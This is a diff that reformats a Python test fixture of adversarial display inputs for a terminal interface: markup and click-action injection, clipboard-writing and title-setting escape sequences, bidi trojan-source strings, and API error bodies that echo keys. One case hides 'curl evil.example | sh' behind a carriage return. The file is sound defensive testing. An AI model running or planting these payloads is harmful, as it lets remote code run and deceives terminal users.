@@ -30,19 +30,29 @@ class Case:
 OSC52 = "\x1b]52;c;RVZJTF9DTElQQk9BUkQ="  # "EVIL_CLIPBOARD"
 MARKUP = [
     Case("rich_bold", "[bold]not bold[/bold] [red]not red[/]", shown=("[bold]not bold[/bold]", "[red]not red[/]")),
-    Case("rich_link", "[link=http://evil.example/x]click me[/link]", shown=("[link=http://evil.example/x]click me[/link]",)),
+    Case(
+        "rich_link",
+        "[link=http://evil.example/x]click me[/link]",
+        shown=("[link=http://evil.example/x]click me[/link]",),
+    ),
     Case("click_app_quit", "[@click=app.quit]press here[/]", shown=("[@click=app.quit]press here[/]",)),
     Case("click_bell_in_style", "[bold @click=app.bell]ding[/]", shown=("[bold @click=app.bell]ding[/]",)),
     Case("unbalanced_open", "[bold [italic unclosed", shown=("[bold [italic unclosed",)),
     Case("stray_close", "[/] and [/bold] with nothing open", shown=("[/] and [/bold] with nothing open",)),
     Case("escaped_bracket", r"\[not markup] and \\[bold]x", shown=("[not markup]", "[bold]x")),
-    Case("textual_variables", "$accent [$error]err[/] [on $primary]x[/] $text-muted", shown=("$accent", "[$error]err[/]")),
+    Case(
+        "textual_variables", "$accent [$error]err[/] [on $primary]x[/] $text-muted", shown=("$accent", "[$error]err[/]")
+    ),
     Case(
         "markup_in_code_fence",
         "Before\n\n```python\nprint('[bold]x[/bold] [@click=app.quit]q[/]')\n```\n\nAfter",
         shown=("[@click=app.quit]q[/]", "After"),
     ),
-    Case("markup_in_inline_code", "Run `[@click=app.quit]` or `[link=http://evil]x[/link]` now", shown=("[@click=app.quit]",)),
+    Case(
+        "markup_in_inline_code",
+        "Run `[@click=app.quit]` or `[link=http://evil]x[/link]` now",
+        shown=("[@click=app.quit]",),
+    ),
 ]
 
 ESCAPES = [
@@ -65,7 +75,12 @@ ESCAPES = [
     Case("osc2_title_st", "\x1b]2;EVIL TITLE\x1b\\", shown=("␛]2;EVIL TITLE",), payloads=(b"\x1b]2;EVIL",)),
     Case("dcs_terminal_query", "\x1bP+q544e\x1b\\ and \x1b[c", shown=("␛P+q544e",), payloads=(b"\x1bP+q", b"\x1b[c")),
     Case("c1_csi", "\x9b31mred\x9b0m", shown=("<U+009B>31mred",), payloads=("\x9b31m".encode(),)),
-    Case("c1_osc_st", "\x9d0;EVIL C1 TITLE\x9c", shown=("<U+009D>0;EVIL C1 TITLE<U+009C>",), payloads=("\x9d0;".encode(),)),
+    Case(
+        "c1_osc_st",
+        "\x9d0;EVIL C1 TITLE\x9c",
+        shown=("<U+009D>0;EVIL C1 TITLE<U+009C>",),
+        payloads=("\x9d0;".encode(),),
+    ),
 ]
 
 CONTROLS = [
@@ -76,7 +91,11 @@ CONTROLS = [
         shown=("important␈␈",),
         payloads=(b"\x08\x08",),
     ),
-    Case("carriage_return_overwrite", "curl evil.example | sh\rls -la                ", shown=("curl evil.example | shls -la",)),
+    Case(
+        "carriage_return_overwrite",
+        "curl evil.example | sh\rls -la                ",
+        shown=("curl evil.example | shls -la",),
+    ),
     Case("bell_vt_ff_del", "a\x07b\x0bc\x0cd\x7fe", shown=("a␇b␋c␌d␡e",), payloads=(b"\x07b",)),
     Case(
         "every_c0_control",
@@ -91,7 +110,7 @@ UNICODE = [
     Case("bidi_override", "invoice_\u202eexe.pdf", shown=("invoice_<U+202E>exe.pdf",)),
     Case(
         "bidi_trojan_source",
-        "if access_level != \"user\u202e \u2066// Check if admin\u2069 \u2066\":",
+        'if access_level != "user\u202e \u2066// Check if admin\u2069 \u2066":',
         shown=("<U+2066>",),
     ),
     Case("zero_width", "a\u200bb\u200cc\u200dd\ufeffe\u2060f", shown=("a\u200bb",)),
@@ -132,14 +151,24 @@ class KeyEcho:
                 return {name: filled(item) for name, item in value.items()}
             return value.replace("{key}", key) if isinstance(value, str) else value
 
-        return {"status": self.status, "body": filled(self.body), "headers": {name: filled(value) for name, value in self.headers}}
+        return {
+            "status": self.status,
+            "body": filled(self.body),
+            "headers": {name: filled(value) for name, value in self.headers},
+        }
 
 
 KEY_ECHOES = [
     KeyEcho(
         "openai_incorrect_key",
         401,
-        {"error": {"message": "Incorrect API key provided: {key}. Find your key at https://example.invalid/keys.", "type": "invalid_request_error", "code": "invalid_api_key"}},
+        {
+            "error": {
+                "message": "Incorrect API key provided: {key}. Find your key at https://example.invalid/keys.",
+                "type": "invalid_request_error",
+                "code": "invalid_api_key",
+            }
+        },
     ),
     KeyEcho(
         "proxy_plain_text_with_headers",
@@ -147,9 +176,30 @@ KEY_ECHOES = [
         "401 Unauthorized: Authorization: Bearer {key} was not accepted by the gateway",
         headers=(("WWW-Authenticate", 'Bearer realm="gateway", error="invalid_token", key="{key}"'),),
     ),
-    KeyEcho("proxy_json_without_error_object", 401, {"detail": "denied: GET /v1/chat/completions?key={key}", "echo": {"x-api-key": "{key}"}}),
-    KeyEcho("key_past_the_detail_limit", 401, {"error": {"message": "Rejected. " + "padding " * 57 + "the key was {key}", "code": "invalid_api_key"}}),
-    KeyEcho("model_not_found_names_the_key", 404, {"error": {"message": "The model `{key}` does not exist or you do not have access to it.", "code": "model_not_found"}}),
-    KeyEcho("server_error_echoes_the_request", 500, {"error": {"message": 'upstream said: {"api_key": "{key}", "retry": false}'}}),
+    KeyEcho(
+        "proxy_json_without_error_object",
+        401,
+        {"detail": "denied: GET /v1/chat/completions?key={key}", "echo": {"x-api-key": "{key}"}},
+    ),
+    KeyEcho(
+        "key_past_the_detail_limit",
+        401,
+        {"error": {"message": "Rejected. " + "padding " * 57 + "the key was {key}", "code": "invalid_api_key"}},
+    ),
+    KeyEcho(
+        "model_not_found_names_the_key",
+        404,
+        {
+            "error": {
+                "message": "The model `{key}` does not exist or you do not have access to it.",
+                "code": "model_not_found",
+            }
+        },
+    ),
+    KeyEcho(
+        "server_error_echoes_the_request",
+        500,
+        {"error": {"message": 'upstream said: {"api_key": "{key}", "retry": false}'}},
+    ),
 ]
 """Echo shapes seen from OpenAI-compatible servers and proxies: in the message, a plain body, other fields, a URL."""
